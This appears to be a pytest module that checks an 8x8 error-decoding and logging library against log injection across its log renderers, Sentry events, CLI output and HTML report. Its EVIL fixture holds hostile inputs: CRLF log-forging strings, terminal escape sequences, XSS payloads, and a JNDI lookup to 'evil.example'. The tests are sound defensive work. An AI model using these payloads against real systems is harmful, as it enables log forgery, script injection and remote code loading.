"""Log injection: nothing that 8x8, a proxy or a forged log sends can add a line, a key, an escape or an element."""

from __future__ import annotations

import io
import json
import logging
from html.parser import HTMLParser
from typing import Any

import pytest
import requests
import sentry_sdk
import structlog
import webhook_bodies
from strategies import NASTY
from typer.testing import CliRunner

import eightbyeight_obs
from eightbyeight_obs import decode, decode_webhook, support_ticket
from eightbyeight_obs.cli.app import app
from tests.fuzz.outputs import CONTROL, check_details, check_shown, strings_in

URL = "https://sms.8x8.com/api/v1/subaccounts/Acme_hq/messages"
EVIL = {
    "newline": "a\n8x8.code=9999 level=critical",
    "carriage return": "a\rforged",
    "both": 'a\r\n{"event": "forged", "level": "critical"}',
    "line separator": "a\u2028forged\u2029b",
    "next line": "a\x85forged",
    "vertical tab and form feed": "a\x0bforged\x0cb",
    "NUL": "a\x00b",
    "colour": "\x1b[31mred\x1b[0m",
    "title of the window": "\x1b]0;owned\x07",
    "clear the screen": "\x1b[2J\x1b[H",
    "C1 escape": "\x9b31mred",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "backspace": "good\x08\x08\x08\x08evil",
    "right to left": "\u202egnp.exe\u202c",
    "isolates": "\u2066x\u2069 \u2067y\u2069",
    "lone surrogate": "a\ud800b",
    "script": "</script><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "markup of rich": "[bold red]x[/] [link=https://evil.example]y[/link]",
    "format": "%s %d %(message)s {0} {event}",
    "template": "{{ default }} ${jndi:ldap://evil.example/a}",
}
FIELDS = ("message", "errorId", "timestamp", "code", "umid", "batchId", "requestId", "sessionId")


def _body(evil: str, field: str) -> bytes:
    return json.dumps({"code": 1002, "message": "no", field: evil}).encode()


def _response(body: bytes, **headers: str) -> requests.Response:
    response = requests.Response()
    response.status_code, response.url, response._content = 400, URL, body
    response.headers.update(headers)
    response.request = requests.Request("POST", URL).prepare()
    return response


def _bodies(evil: str) -> list[bytes]:
    return [_body(evil, field) for field in FIELDS]


@pytest.fixture(params=EVIL, ids=str)
def evil(request: pytest.FixtureRequest) -> str:
    return EVIL[request.param]


def test_the_views_and_the_ticket_of_an_answer(evil: str) -> None:
    """In any field of a body: no view has a control character, and the ticket has its own lines only."""
    for body in _bodies(evil):
        details = decode(400, body, url=URL, method="POST")
        assert details is not None
        check_details(details)


def test_the_views_and_the_ticket_of_a_webhook(evil: str) -> None:
    """In any field of a receipt."""
    for field in ("umid", "subAccountId", "batchId", "channel"):
        body = webhook_bodies.sms()
        body["payload"][field] = evil
        check_details(decode_webhook(body))
    for field in ("errorMessage", "timestamp", "state", "detail"):
        body = webhook_bodies.sms()
        body["payload"]["status"][field] = evil
        check_details(decode_webhook(body))


@pytest.mark.parametrize("renderer", ["logfmt", "key-value", "json", "console"])
def test_the_line_of_structlog(evil: str, renderer: str) -> None:
    """Each of structlog's renderers writes one line per event, whatever the answer says."""
    chosen: Any = {
        "logfmt": structlog.processors.LogfmtRenderer(),
        "key-value": structlog.processors.KeyValueRenderer(),
        "json": structlog.processors.JSONRenderer(ensure_ascii=False),
        "console": structlog.dev.ConsoleRenderer(colors=False),
    }[renderer]
    for body in _bodies(evil):
        event: dict[str, Any] = {"event": "failed", "response": _response(body)}
        eightbyeight_obs.EightByEightProcessor()(None, "error", event)
        del event["response"]
        assert event["8x8.code"]
        line = chosen(None, "error", event)
        assert [line] == line.splitlines()
        check_shown([line])


def test_the_line_of_the_standard_library(evil: str) -> None:
    """A format with the keys in it writes one line; so does the middleware's own event."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(
        logging.Formatter(
            "%(message)s %(8x8.message)s %(8x8.error_id)s", defaults={"8x8.error_id": "", "8x8.message": ""}
        )
    )
    logger = logging.getLogger("eightbyeight_obs")
    logger.addHandler(handler)
    try:
        with eightbyeight_obs.install():
            for body in _bodies(evil):
                details = decode(400, body, url=URL)
                assert details is not None
                eightbyeight_obs.report(details)
    finally:
        logger.removeHandler(handler)
    lines = stream.getvalue().splitlines()
    assert len(FIELDS) == len(lines)
    assert {"8x8.error_response"} == {line.split(" ")[0] for line in lines}
    check_shown(lines)


def test_the_event_of_sentry(evil: str) -> None:
    """Tags, context, fingerprint and title of a real client's event."""
    sent: list[Any] = []
    sentry_sdk.init(dsn="http://key@127.0.0.1:9/1", before_send=lambda event, hint: sent.append(event))
    try:
        with eightbyeight_obs.install(log=False):
            for body in _bodies(evil):
                sentry_sdk.capture_exception(requests.HTTPError("could not send", response=_response(body)))
    finally:
        sentry_sdk.get_client().close(timeout=0)
        sentry_sdk.get_global_scope().set_client(None)
    assert len(FIELDS) == len(sent)
    for event in sent:
        tags = {key: value for key, value in event["tags"].items() if key.startswith("8x8.")}
        title = event["exception"]["values"][-1]["value"]
        check_shown([*tags.values(), *strings_in(event["contexts"]["8x8"]), *event["fingerprint"], title])
        assert {True} == {1 <= len(value) <= 200 for value in tags.values()}


@pytest.mark.parametrize("value", ["5\r\n8x8.code: 1", "\x1b[31m5", "٥", "+65 9123 4567"], ids=ascii)
def test_a_header(value: str) -> None:
    """Retry-After is a number of seconds or nothing."""
    response = _response(b'{"code": 1400}')
    response.headers = requests.structures.CaseInsensitiveDict({"Retry-After": value})
    details = eightbyeight_obs.from_response(response)
    assert details is not None
    assert details.retry_after is None


def _run(*arguments: str, piped: str) -> str:
    done = CliRunner().invoke(app, list(arguments), input=piped.encode("utf-8", "surrogatepass"))
    assert done.exception is None or isinstance(done.exception, SystemExit)
    return done.output


def test_the_terminal(evil: str) -> None:
    """``decode``, ``ticket`` and ``explain`` print nothing that a terminal would obey, with and without --json."""
    body = json.dumps({"code": 1002, "message": evil, "errorId": evil, "timestamp": evil})
    line = json.dumps(
        {f"8x8.{key}": evil for key in ("description", "endpoint", "message", "umid")} | {"8x8.code": "1002"}
    )
    for piped in (body, line, f"HTTP/1.1 400 Bad\nRetry-After: {evil}\n\n{body}", evil):
        for arguments in (["decode"], ["decode", "--json"], ["ticket", "--last"]):
            check_shown(_run(*arguments, piped=piped).split("\n"))
    if "\x00" not in evil:
        check_shown(_run("explain", evil, piped="").split("\n"))


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(name for name, _ in attrs)))


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory):
    """A function that makes the page of a log and returns the elements and attributes in it."""
    folder = tmp_path_factory.mktemp("page")

    def make(name: str, evils: list[str]) -> tuple[str, list[tuple[str, tuple[str, ...]]]]:
        keys = ("description", "endpoint", "message", "sub_account", "product", "region", "category", "error_id")
        known = {"8x8.registry": "api"}
        lines = [
            json.dumps({**{f"8x8.{key}": evil for key in keys}, **known, "8x8.code": str(1000 + at), "event": evil})
            for at, evil in enumerate(evils)
        ]
        log, html = folder / f"{name}.log", folder / f"{name}.html"
        log.write_text("\n".join(lines), encoding="utf-8")
        _run("report", str(log), "--top", "50", "--html", str(html), piped="")
        text = html.read_text(encoding="utf-8")
        elements = _Elements()
        elements.feed(text)
        return text, elements.found

    return make


def test_the_page_of_the_report(page: Any) -> None:
    """The page of a hostile log has the elements and attributes of a harmless one, and no control character."""
    pytest.importorskip("duckdb", reason="the extra `report` is not installed")
    _, expected = page("harmless", [f"harmless {number}" for number in range(len(EVIL))])
    text, elements = page("hostile", list(EVIL.values()))
    assert expected == elements
    assert len(EVIL) == text.count("<td>1</td>")
    assert not CONTROL.search(text.replace("\n", ""))


@pytest.mark.parametrize("nasty", NASTY, ids=ascii)
def test_a_ticket_made_by_hand(nasty: str) -> None:
    """A ticket escapes also what no decoder has cleaned: details that a service built itself."""
    made = eightbyeight_obs.ErrorDetails(
        "1002", "api", nasty, "validation", error_id=nasty, message=nasty, endpoint=nasty
    )
    lines = support_ticket(made).split("\n")
    check_shown(lines)
    assert [] == [line for line in lines if "<" in line or ">" in line]
    assert len(
        support_ticket(
            eightbyeight_obs.ErrorDetails("1002", "api", "x", "y", error_id="e", message="m", endpoint="p")
        ).split("\n")
    ) == len(lines)
